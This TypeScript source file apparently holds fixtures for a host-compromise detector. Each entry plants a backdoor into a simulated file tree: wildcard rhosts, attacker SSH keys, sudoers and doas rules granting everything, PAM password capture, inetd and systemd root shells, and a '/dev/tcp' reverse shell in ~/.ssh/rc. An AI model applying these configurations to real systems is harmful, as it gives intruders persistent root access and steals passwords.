/** Who is let in without being asked, or is given root's rights. */

import { attackerKey, elf, type Sign } from '../sign.ts';

export const trustSigns: readonly Sign[] = [
	{ id: 'hosts-equiv', family: 'trust', what: 'any host, any user', plant: tree => tree.write('/etc/hosts.equiv', '+ +\n'), names: ['/etc/hosts.equiv'] },
	{ id: 'rhosts', family: 'trust', what: 'root trusts any host', plant: tree => tree.write('/root/.rhosts', '+ +\n', { mode: 0o600 }), names: ['/root/.rhosts'] },
	{ id: 'shosts', family: 'trust', what: 'a host of the intruder in a home', plant: tree => tree.write('/home/ada/.shosts', 'pool-203-0-113-7.dialup.example.net +\n+ mallory\n', { owner: 'ada' }), names: ['/home/ada/.shosts'] },
	{ id: 'k5login', family: 'trust', what: 'a foreign principal may become root', plant: tree => tree.write('/root/.k5login', 'mallory@EVIL.EXAMPLE.NET\n'), names: ['/root/.k5login'] },
	{ id: 'exports', family: 'trust', what: 'the whole system exported to the world with root\'s rights', plant: tree => tree.append('/etc/exports', '/ *(rw,no_root_squash,insecure)\n'), names: ['/etc/exports'] },
	{ id: 'root-key-in-system', family: 'trust', what: 'a key for a system account', plant: tree => {
		tree.write('/var/spool/lpd/.ssh/authorized_keys', `${attackerKey}\n`, { owner: 'lp', mode: 0o600 });
	}, names: ['/var/spool/lpd/.ssh/authorized_keys', 'account lp'], also: ['/var/spool/lpd', '/var/spool/lpd/.ssh'] },
	{ id: 'www-key', family: 'trust', what: 'a key for the web server', plant: tree => tree.write('/var/www/.ssh/authorized_keys', `${attackerKey}\n`, { owner: 'www-data', mode: 0o600 }), names: ['/var/www/.ssh/authorized_keys'], also: ['/var/www/.ssh', 'account www-data'] },
	{ id: 'key-with-command', family: 'trust', what: 'a key that runs a program of the intruder and sets LD_PRELOAD', plant: tree => tree.write('/home/grace/.ssh/authorized_keys', `environment="LD_PRELOAD=/home/grace/.cache/.x.so",command="/bin/bash -c '/tmp/.ICE-unix/.d; exec bash'" ${attackerKey}\n`, { owner: 'grace', mode: 0o600 }), names: ['/home/grace/.ssh/authorized_keys'], also: ['account grace'] },
	{ id: 'keys2', family: 'trust', what: 'a second, forgotten file of keys for root', plant: tree => tree.write('/root/.ssh/authorized_keys2', `${attackerKey}\n`, { mode: 0o644 }), names: ['/root/.ssh/authorized_keys2'] },
	{ id: 'sshd-keys-file', family: 'trust', what: 'sshd told to look for keys elsewhere', plant: tree => {
		tree.write('/etc/ssh/sshd_config.d/50-keys.conf', 'AuthorizedKeysFile .ssh/authorized_keys /usr/share/zoneinfo/.keys/%u\nPermitEmptyPasswords yes\n');
		tree.write('/usr/share/zoneinfo/.keys/root', `${attackerKey}\n`);
	}, names: ['/etc/ssh/sshd_config.d/50-keys.conf'], also: ['/usr/share/zoneinfo/.keys', '/etc/ssh/sshd_config'] },
	{ id: 'sshd-keys-command', family: 'trust', what: 'sshd asks a program of the intruder who may come in', plant: tree => {
		tree.append('/etc/ssh/sshd_config', '\nAuthorizedKeysCommand /usr/local/lib/ssh-ldap-wrapper %u\nAuthorizedKeysCommandUser root\n');
		tree.write('/usr/local/lib/ssh-ldap-wrapper', `#!/bin/sh\necho '${attackerKey}'\n`, { mode: 0o755 });
	}, names: ['/etc/ssh/sshd_config'], also: ['/usr/local/lib/ssh-ldap-wrapper'] },
	{ id: 'sshd-match', family: 'trust', what: 'a Match at the end that lets root in by password from one address', plant: tree => tree.write('/etc/ssh/sshd_config.d/99-zz.conf', 'Match Address 203.0.113.0/24\n\tPermitRootLogin yes\n\tPasswordAuthentication yes\n\tForceCommand /var/tmp/.s\n'), names: ['/etc/ssh/sshd_config.d/99-zz.conf'] },
	{ id: 'ssh-rc', family: 'trust', what: 'a program at each login by ssh', plant: tree => tree.write('/etc/ssh/sshrc', '/usr/bin/nohup /usr/lib/.sshd/collect >/dev/null 2>&1 &\n'), names: ['/etc/ssh/sshrc'] },
	{ id: 'user-ssh-rc', family: 'trust', what: 'a program at each login of one user', plant: tree => tree.write('/home/ada/.ssh/rc', 'bash -c "bash -i >& /dev/tcp/203.0.113.9/443 0>&1" &\n', { owner: 'ada' }), names: ['/home/ada/.ssh/rc'] },
	{ id: 'sudo-service', family: 'trust', what: 'a daemon\'s account may do anything, in sudoers.d', plant: tree => tree.write('/etc/sudoers.d/www', 'www-data ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 }), names: ['/etc/sudoers.d/www'] },
	{ id: 'sudo-everybody', family: 'trust', what: 'everybody may do anything, at the end of sudoers', plant: tree => tree.append('/etc/sudoers', 'ALL ALL=(ALL:ALL) NOPASSWD: ALL\n'), names: ['/etc/sudoers'] },
	{ id: 'sudo-escape', family: 'trust', what: 'an uid may run a program anyone may write', plant: tree => {
		tree.write('/etc/sudoers.d/zabbix', 'Defaults !authenticate\n#33 ALL=(root) NOPASSWD: /opt/app/run.sh\n', { mode: 0o440 });
		tree.write('/opt/app/run.sh', '#!/bin/sh\nexec "$@"\n', { mode: 0o777 });
	}, names: ['/etc/sudoers.d/zabbix'], also: ['/opt/app/run.sh'] },
	{ id: 'sudoers-writable', family: 'trust', what: 'a file of sudoers.d that anyone may write', plant: tree => tree.write('/etc/sudoers.d/local', '# nothing here yet\n', { mode: 0o666 }), names: ['/etc/sudoers.d/local'] },
	{ id: 'doas', family: 'trust', what: 'doas without a password', plant: tree => tree.write('/etc/doas.conf', 'permit nopass keepenv www-data as root\n', { mode: 0o644 }), names: ['/etc/doas.conf'] },
	{ id: 'polkit', family: 'trust', what: 'polkit says yes to everything', plant: tree => tree.write('/etc/polkit-1/rules.d/01-network.rules', 'polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n'), names: ['/etc/polkit-1/rules.d/01-network.rules'] },
	{ id: 'polkit-pkla', family: 'trust', what: 'the same in the old form', plant: tree => tree.write('/etc/polkit-1/localauthority/50-local.d/evil.pkla', '[Everything]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\nResultInactive=yes\nResultActive=yes\n'), names: ['/etc/polkit-1/localauthority/50-local.d/evil.pkla'] },
	{ id: 'pam-permit', family: 'trust', what: 'any password is right', plant: tree => tree.edit('/etc/pam.d/common-auth', /^/, 'auth sufficient pam_permit.so\n'), names: ['/etc/pam.d/common-auth'] },
	{ id: 'pam-exec', family: 'trust', what: 'PAM hands each password to a script', plant: tree => {
		tree.append('/etc/pam.d/sshd', 'auth optional pam_exec.so quiet expose_authtok /usr/lib/x86_64-linux-gnu/security/.log.sh\n');
		tree.write('/usr/lib/x86_64-linux-gnu/security/.log.sh', '#!/bin/sh\ncat >> /var/tmp/.p\n', { mode: 0o755 });
	}, names: ['/etc/pam.d/sshd'], also: ['/usr/lib/x86_64-linux-gnu/security/.log.sh'] },
	{ id: 'pam-module', family: 'trust', what: 'a module of no package beside the others', plant: tree => {
		tree.write('/usr/lib/x86_64-linux-gnu/security/pam_unix2.so', elf('pam_sm_authenticate', 'library'));
		tree.append('/etc/pam.d/su', 'auth sufficient pam_unix2.so\n');
	}, names: ['/usr/lib/x86_64-linux-gnu/security/pam_unix2.so', '/etc/pam.d/su'], also: ['/etc/pam.d/su', '/usr/lib/x86_64-linux-gnu/security/pam_unix2.so'] },
	{ id: 'pam-rootok', family: 'trust', what: 'su believes everybody', plant: tree => tree.edit('/etc/pam.d/common-account', /^/, 'account [default=done] pam_succeed_if.so user = sysupd\n'), names: ['/etc/pam.d/common-account'] },
	{ id: 'hostkey-open', family: 'trust', what: 'the server\'s private key readable by all', plant: tree => tree.write('/etc/ssh/ssh_host_ed25519_key', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o644 }), names: ['/etc/ssh/ssh_host_ed25519_key'] },
	{ id: 'inetd-shell', family: 'services', what: 'inetd serves a root shell', plant: tree => tree.write('/etc/inetd.conf', 'ingreslock stream tcp nowait root /bin/sh sh -i\n'), names: ['/etc/inetd.conf'] },
	{ id: 'xinetd', family: 'services', what: 'xinetd serves a program of no package', plant: tree => {
		tree.write('/etc/xinetd.d/rsync-ssl', 'service rsync-ssl\n{\n\ttype = UNLISTED\n\tport = 31337\n\tsocket_type = stream\n\twait = no\n\tuser = root\n\tserver = /usr/sbin/in.rsyncd\n\tdisable = no\n}\n');
		tree.write('/usr/sbin/in.rsyncd', elf('bindshell'), { mode: 0o755 });
	}, names: ['/etc/xinetd.d/rsync-ssl', '/usr/sbin/in.rsyncd'], also: ['/usr/sbin/in.rsyncd'] },
	{ id: 'socket-shell', family: 'services', what: 'a systemd socket that serves a shell', plant: tree => {
		tree.write('/etc/systemd/system/cockpit-debug.socket', '[Socket]\nListenStream=31338\nAccept=yes\n[Install]\nWantedBy=sockets.target\n');
		tree.write('/etc/systemd/system/cockpit-debug@.service', '[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\nStandardOutput=socket\n');
		tree.link('/etc/systemd/system/cockpit-debug.socket', '/etc/systemd/system/sockets.target.wants/cockpit-debug.socket');
	}, names: ['/etc/systemd/system/cockpit-debug.socket', '/etc/systemd/system/cockpit-debug@.service'] },
	{ id: 'telnet', family: 'services', what: 'a login that takes a program for login', plant: tree => tree.write('/etc/xinetd.d/telnet', 'service telnet\n{\n\tsocket_type = stream\n\twait = no\n\tuser = root\n\tserver = /usr/sbin/in.telnetd\n\tserver_args = -L /tmp/.login\n\tdisable = no\n}\n'), names: ['/etc/xinetd.d/telnet'] },
];
